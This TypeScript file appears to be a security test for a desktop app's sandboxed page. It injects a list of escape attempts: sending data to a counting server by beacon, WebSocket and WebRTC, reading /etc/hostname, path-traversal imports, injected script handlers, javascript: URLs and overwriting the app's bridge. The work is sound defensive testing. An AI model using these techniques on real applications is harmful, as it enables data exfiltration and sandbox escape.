// What a page would try if somebody else's script ran in it. Each attempt answers true when it got through; a
// refusal may be a false, an exception or silence.

export interface Target {
  /** A server that counts who connects, as `127.0.0.1:1234`. */
  readonly host: string
  /** A UDP port that counts what arrives. */
  readonly stun: string
}

/** Source texts and not functions: they are run by the page's own timer, where its policy holds. */
const attempts: Readonly<Record<string, string>> = {
  'read a file by fetch': `await fetch('file:///etc/hostname')`,
  'reach a server by fetch': `await fetch('http://' + host)`,
  'reach a server by fetch without cors': `await fetch('http://' + host, { mode: 'no-cors' })`,
  'reach a server by XMLHttpRequest': `
    const request = new XMLHttpRequest()
    request.open('GET', 'http://' + host, false)
    request.send()
    return request.status === 200`,
  'reach a server by WebSocket': `
    const socket = new WebSocket('ws://' + host)
    return ends(socket, 'open')`,
  'reach a server by EventSource': `return ends(new EventSource('http://' + host), 'open')`,
  'reach a server by beacon': `
    navigator.sendBeacon('http://' + host, 'secret')
    return false`,
  'reach a server by picture': `
    const image = new Image()
    image.src = 'http://' + host + '/picture.png'
    return ends(image, 'load')`,
  'reach a server by style': `
    document.body.style.backgroundImage = 'url(http://' + host + '/style.png)'
    return false`,
  'reach a server by preconnect': `return ends(link('preconnect'), 'load')`,
  'reach a server by prefetch': `return ends(link('prefetch'), 'load')`,
  'reach a server by a style sheet': `return ends(link('stylesheet'), 'load')`,
  'send datagrams by WebRTC': `
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + stun }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
    const found = []
    connection.addEventListener('icecandidate', ({ candidate }) => found.push(candidate))
    await new Promise((done) => {
      connection.addEventListener('icegatheringstatechange', () => {
        if (connection.iceGatheringState === 'complete') done()
      })
    })
    connection.close()
    return found.some((candidate) => candidate?.candidate)`,
  'open a window': `return window.open('http://' + host) !== null`,
  'open a window of our own': `return window.open('app://sameday/facilitator/index.html') !== null`,
  'send a form': `
    const form = document.body.appendChild(document.createElement('form'))
    form.action = 'http://' + host
    form.submit()
    return false`,
  'load a module of Node': `await import('fs')`,
  'load a module from a server': `await import('http://' + host + '/module.js')`,
  'load a module from data': `await import('data:text/javascript,export default 1')`,
  'load a module from a blob': `await import(URL.createObjectURL(blob('export default 1')))`,
  'load a module from outside the app': `await import('app://sameday/..%2f..%2fpackage.json')`,
  'run a text by eval': `return eval('true')`,
  'run a text by indirect eval': `return (0, eval)('true')`,
  'run a text by Function': `return new Function('return true')()`,
  'run a text by timer': `
    setTimeout('window.intruded = true')
    await nextTurn()
    return window.intruded`,
  'run a script in the page': `
    const script = document.createElement('script')
    script.append('window.intruded = true')
    document.body.append(script)
    return window.intruded`,
  'run a script from data': `
    const script = document.createElement('script')
    script.src = 'data:text/javascript,window.intruded=true'
    document.body.append(script)
    return ends(script, 'load')`,
  'run a handler in markup': `
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.intruded = true">')
    return window.intruded`,
  'run a handler set as an attribute': `
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.intruded = true')
    image.src = 'app://sameday/nothing.png'
    document.body.append(image)
    await ends(image, 'error')
    return window.intruded`,
  'run a frame of its own': `
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.intruded = true</script>'
    document.body.append(frame)
    await ends(frame, 'load')
    return window.intruded`,
  'show a file in a frame': `
    const frame = document.createElement('iframe')
    frame.src = 'file:///etc/hostname'
    document.body.append(frame)
    await ends(frame, 'load')
    return frame.contentDocument?.body.textContent`,
  'show our page in a frame': `
    const frame = document.createElement('iframe')
    frame.src = 'app://sameday/facilitator/index.html'
    document.body.append(frame)
    await ends(frame, 'load')
    return frame.contentWindow?.sameday`,
  'find the bridge in an empty frame': `
    const frame = document.body.appendChild(document.createElement('iframe'))
    return frame.contentWindow?.sameday || frame.contentWindow?.require`,
  'embed something': `
    const object = document.createElement('object')
    object.data = 'file:///etc/hostname'
    document.body.append(object)
    return ends(object, 'load')`,
  'use a webview': `
    const view = document.createElement('webview')
    view.setAttribute('src', 'http://' + host)
    document.body.append(view)
    return typeof view.getURL === 'function'`,
  'start a worker from a blob': `return ends(new Worker(URL.createObjectURL(blob('postMessage(1)'))), 'message')`,
  'start a shared worker': `
    const worker = new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)')
    worker.port.start()
    return Promise.race([ends(worker.port, 'message'), ends(worker, 'message')])`,
  'install a service worker': `await navigator.serviceWorker.register('app://sameday/worker.js')`,
  'pick a file without being asked': `await window.showOpenFilePicker()`,
  'read the clipboard': `await navigator.clipboard.readText()`,
  'change the base of the page': `
    const base = document.createElement('base')
    base.href = 'http://' + host
    document.head.append(base)
    return document.baseURI.startsWith('http')`,
  'replace the bridge': `
    try { window.sameday = { ask: () => true } } catch {}
    try { window.sameday.on = () => true } catch {}
    try { Object.defineProperty(window.sameday, 'on', { value: () => true }) } catch {}
    return window.sameday.on('x', () => {}) === true`,
  'pass a path off as a dropped file': `
    return window.sameday.fileDropped?.({ path: '/etc/hostname', name: 'hostname' })`
}

/** Places to go to; a page that went would lose its mark. */
export const destinations: readonly string[] = [
  'http://HOST/',
  'https://example.org/',
  'file:///etc/hostname',
  'data:text/html,gone',
  'chrome://gpu',
  'devtools://devtools/bundled/inspector.html',
  'app://sameday/..%2f..%2fpackage.json',
  'javascript:window.intruded=true'
]

/**
 * The program that makes every attempt in a page, for `page.evaluate`. It answers the names of those that got through.
 * A page's own timer starts each one: what the debugger itself runs is not held to the page's policy.
 * @param patienceMs how long an attempt may take to show an effect
 */
export const intrusion = (target: Target, patienceMs: number): string => `(async () => {
  const { host, stun } = ${JSON.stringify(target)}
  const nextTurn = () => new Promise((done) => setTimeout(done))
  const ends = (subject, good) => new Promise((done, fail) => {
    subject.addEventListener(good, () => done(true))
    for (const bad of ['error', 'close']) if (bad !== good) subject.addEventListener(bad, () => fail(new Error(bad)))
  })
  const blob = (text) => new Blob([text], { type: 'text/javascript' })
  const link = (rel) => {
    const element = document.createElement('link')
    element.rel = rel
    element.href = 'http://' + host
    return document.head.appendChild(element)
  }
  const attempts = {
    ${Object.entries(attempts)
      .map(([name, source]) => `${JSON.stringify(name)}: async () => { ${source}${endsInReturn(source)} }`)
      .join(',\n')}
  }
  const answerOf = (attempt) => new Promise((done) => {
    setTimeout(() => attempt().then(done, () => done(false)))
    setTimeout(() => done(false), ${patienceMs})
  })
  const answers = await Promise.all(
    Object.entries(attempts).map(async ([name, attempt]) => [name, await answerOf(attempt)])
  )
  return answers.filter(([, answer]) => answer).map(([name]) => name).concat(window.intruded ? ['ran a text'] : [])
})()`

// An attempt that ends without an exception and says nothing has got through.
const endsInReturn = (source: string) => (source.includes('return') ? '' : '\nreturn true')
